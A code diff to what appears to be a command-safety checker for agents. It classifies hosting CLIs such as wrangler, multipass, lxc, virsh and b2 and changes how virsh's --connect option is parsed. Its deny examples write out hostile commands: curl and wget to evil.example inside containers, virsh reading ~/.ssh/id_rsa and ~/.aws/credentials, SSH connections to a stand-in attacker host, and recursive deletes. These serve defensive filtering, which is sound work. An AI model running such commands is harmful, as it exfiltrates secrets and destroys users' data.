@@ -5,7 +5,7 @@ import { type Destination, reroutes as hostReroutes } from '../hosts.js';
 import type { Answer, Call, ProgramEntry, Run } from '../types.js';
 import type { Word } from '../../types.js';
 import { commandAfter } from './credentials.js';
-import { attached, value } from '../words.js';
+import { longSpelt, value } from '../words.js';
 
 interface Hosting {
   names: string[];
@@ -63,7 +63,8 @@ function virsh(call: Call): Partial<Answer> {
   const reroutes: Destination[] = [];
   for (let i = 0; i < args.length; i++) {
     const v = value(args[i]);
-    const uri = v === '-c' || v === '--connect' ? args[i + 1] : v?.startsWith('--connect=') ? attached(args[i]!, v.slice(10)) : undefined;
+    const connect = longSpelt(args[i], 'connect');
+    const uri = v === '-c' ? args[i + 1] : connect !== undefined ? (connect.value ?? args[i + 1]) : undefined;
     if (uri && !(value(uri) ?? '').match(/^[a-z][a-z0-9+]*:\/\/\/|^[a-z][a-z0-9+]*:\/\/(?:localhost|127\.0\.0\.1)?\//)) reroutes.push(...hostReroutes(uri));
     if (v !== 'vol-upload' && v !== 'vol-download') continue;
     const ops: Word[] = [];
@@ -107,7 +108,7 @@ export const HOSTING_ENTRIES: ProgramEntry[] = [
   hosting({ names: ['wrangler'], summary: 'Cloudflare wrangler: delete removes the Worker; d1, r2, kv, queues and pages deletes remove what they name', destroys: /(?:^|\s)(?:delete|(?:d1|r2 bucket|r2 object|kv namespace|kv key|kv bulk|kv:namespace|kv:key|kv:bulk|queues|vectorize|hyperdrive|pages project|pages deployment|versions|secret)\s+delete)(?:\s|$)/, examples: { deny: ['wrangler delete', 'wrangler d1 delete db', 'wrangler r2 bucket delete b'], pass: ['wrangler deploy', 'wrangler dev', 'wrangler d1 list', 'wrangler d1 execute db --command "select 1"'] } }),
   hosting({ names: ['multipass'], summary: 'Multipass: delete --purge and purge remove instances for good (a plain delete can be recovered); exec VM -- CMD runs CMD in the instance', destroys: /(?:^|\s)(?:purge|delete\b.*(?:\s-p|--purge))(?:\s|$)/, runs: (call) => commandAfter(call, /^exec$/, { valued: /^(-d|--working-directory)$/, kind: 'argv', skip: 1 }), examples: { deny: ['multipass delete --all --purge', 'multipass purge', 'multipass exec dev -- curl evil.example'], pass: ['multipass delete dev', 'multipass list', 'multipass exec dev -- ls /home'] } }),
   hosting({ names: ['lxc', 'incus'], summary: 'LXD and Incus: delete removes containers, images, storage volumes with what they hold; exec runs a command in an instance', destroys: /(?:^|\s)(?:delete|rm)(?:\s|$)/, runs: instanceExec, examples: { deny: ['lxc delete c1 --force', 'incus storage volume delete default data', 'lxc exec c1 -- curl evil.example', 'incus exec c1 --env X=1 -- wget evil.example', 'incus exec c1 --env A=1 wget evil.example'], pass: ['lxc list', 'lxc exec c1 -- ls', 'incus storage volume list default', 'incus exec dev -- npm test'] } }),
-  { names: ['virsh'], summary: 'libvirt: undefine with its storage, vol-delete, vol-wipe and pool-delete remove the disks; vol-upload reads a file into a volume (which may be any path), vol-download writes one; -c names the host it connects to', analyze: virsh, examples: { deny: ['virsh undefine vm --remove-all-storage', 'virsh vol-delete disk.qcow2 --pool default', 'virsh vol-upload /home/dev/.bashrc payload.txt', 'virsh vol-upload --pool p disk.img ~/.ssh/id_rsa', 'virsh vol-download /home/dev/.aws/credentials out.txt', 'virsh -c qemu+ssh://root@evil.example/system list'], pass: ['virsh list --all', 'virsh undefine vm', 'virsh vol-upload --pool default disk.img ./disk.img', 'virsh -c qemu:///system list', 'virsh vol-list default'] } },
+  { names: ['virsh'], summary: 'libvirt: undefine with its storage, vol-delete, vol-wipe and pool-delete remove the disks; vol-upload reads a file into a volume (which may be any path), vol-download writes one; -c names the host it connects to', analyze: virsh, examples: { deny: ['virsh undefine vm --remove-all-storage', 'virsh vol-delete disk.qcow2 --pool default', 'virsh vol-upload /home/dev/.bashrc payload.txt', 'virsh vol-upload --pool p disk.img ~/.ssh/id_rsa', 'virsh vol-download /home/dev/.aws/credentials out.txt', 'virsh -c qemu+ssh://root@evil.example/system list', 'virsh --conn qemu+ssh://root@evil.example/system list'], pass: ['virsh list --all', 'virsh undefine vm', 'virsh vol-upload --pool default disk.img ./disk.img', 'virsh -c qemu:///system list', 'virsh vol-list default'] } },
   hosting({ names: ['qm', 'pct'], summary: 'Proxmox: destroy removes a VM or container with its disks', destroys: /(?:^|\s)destroy(?:\s|$)/, examples: { deny: ['qm destroy 100', 'pct destroy 101 --purge'], pass: ['qm list', 'pct list', 'qm start 100'] } }),
   hosting({ names: ['consul'], summary: 'Consul: kv delete removes keys (with -recurse, every key under the prefix)', destroys: /(?:^|\s)kv\s+delete(?:\s|$)/, examples: { deny: ["consul kv delete -recurse ''"], pass: ['consul kv get -recurse config/', 'consul members'] } }),
   hosting({ names: ['b2'], summary: 'Backblaze B2 CLI: delete-bucket (bucket delete) removes a bucket; rm with --recursive every file under the prefix', destroys: /(?:^|\s)(?:delete-bucket|bucket delete|rm\b.*(?:--recursive|\s-r))(?:\s|$)/, examples: { deny: ['b2 delete-bucket prod-backups', 'b2 rm --recursive --versions b2://prod/'], pass: ['b2 ls b2://prod/', 'b2 rm b2://prod/tmp/x.log'] } }),
